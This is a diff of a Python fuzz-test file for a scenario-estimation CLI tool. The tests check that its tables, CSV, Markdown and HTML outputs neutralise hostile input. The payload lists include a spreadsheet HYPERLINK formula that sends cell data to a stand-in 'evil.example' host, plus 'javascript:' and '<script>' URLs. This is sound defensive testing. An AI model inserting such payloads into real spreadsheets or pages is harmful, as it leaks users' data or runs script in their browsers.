@@ -12,11 +12,11 @@ and each run is held to the invariants:
 - Markdown, rendered by markdown-it-py, has no HTML, link or image the tool did not make
   (links only http(s) or the tool's own ``#source-N``), and a brief's headings survive;
 - no raw control, bidi or format character in tables, CSV, Markdown or errors; JSON escapes
-  them (``\\u202e``) and reads back to the same text;
+  them (``\u202e``) and reads back to the same text;
 - an error is one bounded line naming an option, the file or a field; on exit 2 nothing in
   the scratch folder changes; on any run nothing but the named outputs changes.
 
-``REVENUE_FUZZ_EXAMPLES`` (300 by default, 2,000 in CI) sets the invocations, shared out
+``REVENUE_FUZZ_EXAMPLES`` (100 by default, 2,000 in CI) sets the invocations, shared out
 among the tests below: a quarter to scenario files, an eighth to output paths and a
 fifteenth to titles and dates (a brief or a chart costs several times what a table does).
 """
@@ -37,16 +37,18 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from conftest import Run
 from hypothesis import HealthCheck, given, settings
 from hypothesis import strategies as st
 from typer.testing import CliRunner, Result
 
 from dprk_ru.cli import app
 
-FUZZ = int(os.environ.get("REVENUE_FUZZ_EXAMPLES", "300"))
+FUZZ = int(os.environ.get("REVENUE_FUZZ_EXAMPLES", "100"))
+
+
 ENV = {"NO_COLOR": "1", "COLUMNS": "80"}
 
-# What user text carries ----------------------------------------------------------------------
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
@@ -97,6 +99,7 @@ PAYLOADS = [
     "한국어",
 ]
 
+
 #: Raw characters no output shows: C0 and C1 controls (a newline apart), DEL, line and
 #: paragraph separators, bidi controls, zero-width and invisible format characters, and the
 #: surrogates that stand for bytes that were not UTF-8.
@@ -104,13 +107,20 @@ FORBIDDEN = re.compile(
     "[\x00-\x09\x0b-\x1f\x7f-\x9f\u061c\u180e\u200b\u200e\u200f\u2028\u2029\u202a-\u202e"
     "\u2060-\u2064\u2066-\u2069\ufeff\ufff9-\ufffb\ud800-\udfff]"
 )
+
+
 #: OWASP's formula starts: a spreadsheet runs a cell that begins with one.
 FORMULA = ("=", "+", "-", "@", "\t", "\r")
+
+
 NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?")
+
 
 texts = st.lists(
     st.one_of(st.sampled_from(PAYLOADS), st.text(max_size=4)), min_size=1, max_size=3
 ).map("".join)
+
+
 names = texts.filter(lambda s: 0 < len(s) <= 100)
 
 
@@ -125,9 +135,6 @@ def toml_string(s: str) -> str:
         else:
             out.append(ch)
     return '"' + "".join(out) + '"'
-
-
-# Scenario files ------------------------------------------------------------------------------
 
 
 @dataclass
@@ -248,9 +255,6 @@ def hostile_structure(draw: st.DrawFn) -> Drawn:
     return Drawn(data)
 
 
-# The scratch folder, before and after -------------------------------------------------------
-
-
 def snapshot(folder: Path) -> dict[str, tuple[Any, ...]]:
     """Every entry under ``folder`` (links not followed): its type, bytes or target, and
     modification time."""
@@ -314,9 +318,6 @@ def open_figures() -> list[int]:
     return list(plt.get_fignums())
 
 
-# The invariants -------------------------------------------------------------------------------
-
-
 def check_plain(text: str, what: str) -> None:
     """No raw control, bidi or format character (a newline apart)."""
     m = FORBIDDEN.search(text)
@@ -340,6 +341,8 @@ def _walk(tokens: list[Any]) -> Iterator[Any]:
 
 
 TOOL_HTML = re.compile(r'<a id="source-[0-9]+"></a>')
+
+
 TOOL_LINK = re.compile(r"(https?://|#source-[0-9]+$)", re.IGNORECASE)
 
 
@@ -498,8 +501,6 @@ def _check_output(text: str, fmt: str | None, what: str, name: str | None,
         check_plain(text, what)
 
 
-# Commands on a file ---------------------------------------------------------------------------
-
 SCENARIO = "s.toml"
 
 
@@ -532,24 +533,6 @@ def file_commands(draw: st.DrawFn, drawn: Drawn) -> list[str]:
     return args
 
 
-@pytest.mark.slow
-@settings(max_examples=max(20, FUZZ // 4), deadline=None,
-          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])  # fmt: skip
-@given(data=st.data())
-def test_hostile_scenario_files_keep_every_invariant(data: st.DataObject) -> None:
-    """Every command on a drawn scenario file: the invariants hold whatever it says."""
-    drawn = data.draw(scenario_files(), label="file")
-    args = data.draw(file_commands(drawn), label="args")
-    with scratch() as folder:
-        (folder / SCENARIO).write_bytes(drawn.data)
-        before, figures = snapshot(folder), open_figures()
-        result = CliRunner().invoke(app, args, env=ENV)
-        assert open_figures() == figures, (args, result.exit_code, result.stderr)
-        check_run(result, args, folder, before, drawn)
-        check_svg(folder, args)
-        assert (folder / SCENARIO).read_bytes() == drawn.data, args
-
-
 @st.composite
 def with_plot(draw: st.DrawFn, args: list[str]) -> list[str]:
     """A chart now and then, titled with hostile text, where the command draws one."""
@@ -575,11 +558,11 @@ def check_svg(folder: Path, args: list[str]) -> None:
             xml.dom.minidom.parseString(text)
 
 
-# Text options: hostile text and bytes that are not UTF-8 ------------------------------------
-
 #: Bytes as the CLI receives them from a POSIX argv: os.fsdecode's surrogate escapes.
 RAW = [os.fsdecode(b) for b in (b"\xff", b"\xff\xfe bad", b"ok\x80", b"\xed\xa0\x80",
                                 b"\xc3(", b"# \xe2\x80")]  # fmt: skip
+
+
 text_args = st.one_of(texts, st.sampled_from(RAW), texts.map(lambda t: t + RAW[0]))
 
 
@@ -602,31 +585,9 @@ def text_commands(draw: st.DrawFn) -> list[str]:
     return [*base, "--plot", "chart.svg", "--title", title, "-o", "out.csv"]
 
 
-@pytest.mark.slow
-@settings(max_examples=max(10, FUZZ // 15), deadline=None,
-          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
-@given(args=text_commands())
-def test_hostile_titles_and_dates_keep_every_invariant(args: list[str]) -> None:
-    """--title and --date with formulas, markup, bidi characters and bytes that are not
-    UTF-8: refused in one line naming the option, with nothing written, or written with
-    every invariant (a brief keeps its one title and its sections as headings)."""
-    with scratch() as folder:
-        before, figures = snapshot(folder), open_figures()
-        result = CliRunner().invoke(app, args, env=ENV)
-        assert open_figures() == figures, (args, result.exit_code, result.stderr)
-        check_run(result, args, folder, before)
-        check_svg(folder, args)
-        given = [a for a in args if any(0xDC80 <= ord(c) <= 0xDCFF for c in a)]
-        if given:  # bytes that are not UTF-8 are refused, naming the option
-            assert result.exit_code == 2, (args, result.stdout)
-            assert re.match(r"Error: --(title|date): not UTF-8 text", result.stderr), args
-        elif result.exit_code != 0:
-            assert re.match(r"Error: --(title|date)\b", result.stderr), (args, result.stderr)
-
-
-# Output paths that collide --------------------------------------------------------------------
-
 INPUT = "in.toml"
+
+
 PATHS = ["a.csv", "a.svg", "a.png", "b.md", "b.html", "a.json", "link.csv", "link.svg",
          "dangling.csv", INPUT, "inlink.toml", "hard.toml", "./a.csv", "sub/../a.csv",
          "sub/x.csv", "b_files/histogram.svg", "-", "sub", "link-sub.csv"]  # fmt: skip
@@ -668,6 +629,80 @@ def colliding(draw: st.DrawFn) -> list[str]:
     return args
 
 
+def _all_payloads() -> Drawn:
+    name = "".join(PAYLOADS[:8])[:100]
+    lines = [f"name = {toml_string(name)}",
+             f"description = {toml_string(''.join(PAYLOADS))}"]  # fmt: skip
+    body = []
+    for i, p in enumerate("".join(PAYLOADS[j : j + 6]) for j in range(0, len(PAYLOADS), 6)):
+        body += ["[[contingents]]", f"name = {toml_string(f'{p}{i}')}",
+                 f'troops = "{1000 + i} to {2000 + i}"', 'start = "2024-11"',
+                 f"note = {toml_string(p + ' ' + ''.join(PAYLOADS))}"]  # fmt: skip
+    for p, url in zip(PAYLOADS, URLS_FIXED, strict=False):
+        lines += ["[[sources]]", f"title = {toml_string(p)}", f"author = {toml_string(p)}",
+                  f"url = {toml_string(url)}", f"note = {toml_string(p)}"]  # fmt: skip
+    text = "\n".join(lines + body) + "\n"
+    return Drawn(text.encode(), name=name, uncertain=True, dated=True)
+
+
+URLS_FIXED = ["javascript:alert(1)", "http://x<img/>", "http://a b)c\n# h", "https://ok.example/a_(b)",
+              "data:text/html,<script>alert(1)</script>", "http://x>](javascript:alert(1))",
+              "https://e.example/\u202e", "//evil.example", "HTTPS://E.EXAMPLE/<b>"]  # fmt: skip
+
+
+EVERY = [["report", "-s", SCENARIO, "-n", "20", "-o", "b.md", "--title", PAYLOADS[0],
+          "--date", "~~~"], ["report", "-s", SCENARIO, "-n", "20", "-o", "b.html"],
+         ["explain", "-s", SCENARIO, "-f", "markdown"], ["explain", "-s", SCENARIO, "-f", "json"],
+         ["explain", "-s", SCENARIO, "-f", "text"], ["scenarios", "show", SCENARIO],
+         *(["estimate", "-s", SCENARIO, "-f", f] for f in ("table", "csv", "json", "markdown")),
+         ["compare", SCENARIO, "-f", "markdown"], ["sensitivity", "-s", SCENARIO, "-f", "csv"],
+         # every payload in a chart title, in two (a --title takes 200 characters)
+         *(["simulate", "-s", SCENARIO, "-n", "20", "--samples-out", "d.csv", "-o", "s.md",
+            "--plot", "h.svg", "--title", "".join(half)]
+           for half in (PAYLOADS[:11], PAYLOADS[11:])),
+         ["timeline", "-s", SCENARIO, "-f", "markdown", "--plot", "t.svg"]]  # fmt: skip
+
+
+@pytest.mark.slow
+@settings(max_examples=max(20, FUZZ // 4), deadline=None,
+          suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large])  # fmt: skip
+@given(data=st.data())
+def test_hostile_scenario_files_keep_every_invariant(data: st.DataObject) -> None:
+    """Every command on a drawn scenario file: the invariants hold whatever it says."""
+    drawn = data.draw(scenario_files(), label="file")
+    args = data.draw(file_commands(drawn), label="args")
+    with scratch() as folder:
+        (folder / SCENARIO).write_bytes(drawn.data)
+        before, figures = snapshot(folder), open_figures()
+        result = CliRunner().invoke(app, args, env=ENV)
+        assert open_figures() == figures, (args, result.exit_code, result.stderr)
+        check_run(result, args, folder, before, drawn)
+        check_svg(folder, args)
+        assert (folder / SCENARIO).read_bytes() == drawn.data, args
+
+
+@pytest.mark.slow
+@settings(max_examples=max(10, FUZZ // 15), deadline=None,
+          suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
+@given(args=text_commands())
+def test_hostile_titles_and_dates_keep_every_invariant(args: list[str]) -> None:
+    """--title and --date with formulas, markup, bidi characters and bytes that are not
+    UTF-8: refused in one line naming the option, with nothing written, or written with
+    every invariant (a brief keeps its one title and its sections as headings)."""
+    with scratch() as folder:
+        before, figures = snapshot(folder), open_figures()
+        result = CliRunner().invoke(app, args, env=ENV)
+        assert open_figures() == figures, (args, result.exit_code, result.stderr)
+        check_run(result, args, folder, before)
+        check_svg(folder, args)
+        given = [a for a in args if any(0xDC80 <= ord(c) <= 0xDCFF for c in a)]
+        if given:  # bytes that are not UTF-8 are refused, naming the option
+            assert result.exit_code == 2, (args, result.stdout)
+            assert re.match(r"Error: --(title|date): not UTF-8 text", result.stderr), args
+        elif result.exit_code != 0:
+            assert re.match(r"Error: --(title|date)\b", result.stderr), (args, result.stderr)
+
+
 @pytest.mark.slow
 @settings(max_examples=max(10, FUZZ // 8), deadline=None,
           suppress_health_check=[HealthCheck.too_slow])  # fmt: skip
@@ -693,42 +728,6 @@ def test_colliding_outputs_keep_every_invariant(args: list[str], old: bool) -> N
             assert not reads or os.path.realpath(folder / INPUT) not in files, args
 
 
-# Every payload at once, in every output (the fuzzer draws a brief only now and then) ---------
-
-
-def _all_payloads() -> Drawn:
-    name = "".join(PAYLOADS[:8])[:100]
-    lines = [f"name = {toml_string(name)}",
-             f"description = {toml_string(''.join(PAYLOADS))}"]  # fmt: skip
-    body = []
-    for i, p in enumerate("".join(PAYLOADS[j : j + 6]) for j in range(0, len(PAYLOADS), 6)):
-        body += ["[[contingents]]", f"name = {toml_string(f'{p}{i}')}",
-                 f'troops = "{1000 + i} to {2000 + i}"', 'start = "2024-11"',
-                 f"note = {toml_string(p + ' ' + ''.join(PAYLOADS))}"]  # fmt: skip
-    for p, url in zip(PAYLOADS, URLS_FIXED, strict=False):
-        lines += ["[[sources]]", f"title = {toml_string(p)}", f"author = {toml_string(p)}",
-                  f"url = {toml_string(url)}", f"note = {toml_string(p)}"]  # fmt: skip
-    text = "\n".join(lines + body) + "\n"
-    return Drawn(text.encode(), name=name, uncertain=True, dated=True)
-
-
-URLS_FIXED = ["javascript:alert(1)", "http://x<img/>", "http://a b)c\n# h", "https://ok.example/a_(b)",
-              "data:text/html,<script>alert(1)</script>", "http://x>](javascript:alert(1))",
-              "https://e.example/\u202e", "//evil.example", "HTTPS://E.EXAMPLE/<b>"]  # fmt: skip
-
-EVERY = [["report", "-s", SCENARIO, "-n", "20", "-o", "b.md", "--title", PAYLOADS[0],
-          "--date", "~~~"], ["report", "-s", SCENARIO, "-n", "20", "-o", "b.html"],
-         ["explain", "-s", SCENARIO, "-f", "markdown"], ["explain", "-s", SCENARIO, "-f", "json"],
-         ["explain", "-s", SCENARIO, "-f", "text"], ["scenarios", "show", SCENARIO],
-         *(["estimate", "-s", SCENARIO, "-f", f] for f in ("table", "csv", "json", "markdown")),
-         ["compare", SCENARIO, "-f", "markdown"], ["sensitivity", "-s", SCENARIO, "-f", "csv"],
-         # every payload in a chart title, in two (a --title takes 200 characters)
-         *(["simulate", "-s", SCENARIO, "-n", "20", "--samples-out", "d.csv", "-o", "s.md",
-            "--plot", "h.svg", "--title", "".join(half)]
-           for half in (PAYLOADS[:11], PAYLOADS[11:])),
-         ["timeline", "-s", SCENARIO, "-f", "markdown", "--plot", "t.svg"]]  # fmt: skip
-
-
 @pytest.mark.parametrize("args", EVERY, ids=lambda a: "-".join(a[:1] + a[-2:]))
 def test_every_payload_in_every_output(args: list[str]) -> None:
     """A file with every payload in every text field (a contingent per payload, a source
@@ -742,3 +741,16 @@ def test_every_payload_in_every_output(args: list[str]) -> None:
         assert result.exit_code == 0, result.stderr
         check_run(result, args, folder, before, drawn)
         check_svg(folder, args)
+
+
+def test_structure_check_follows_strings(run: Run, tmp_path: Path) -> None:
+    """The check of a file's structure before parsing took `\\"` for the end of a string
+    and ended lines at U+2028 inside one, so brackets in text (`[x](y)`, `[sic]`) counted
+    as nesting: a valid file was refused as "nested deeper than 32 levels"."""
+    f = tmp_path / "q.toml"
+    quote = '\\"[' * 40
+    sources = "".join(f'[[sources]]\ntitle = "x\u2028{"[" * 10}"\n' for _ in range(4))
+    f.write_text(f'name = "q"\ndescription = "{quote}"\n[[contingents]]\ntroops = 5\n{sources}')
+    r = run("estimate", "-s", str(f), "-f", "csv")
+    assert r.exit_code == 0, r.stderr
+    assert r.stdout.splitlines()[1].startswith("q,contingent-1,5,2000,12,")
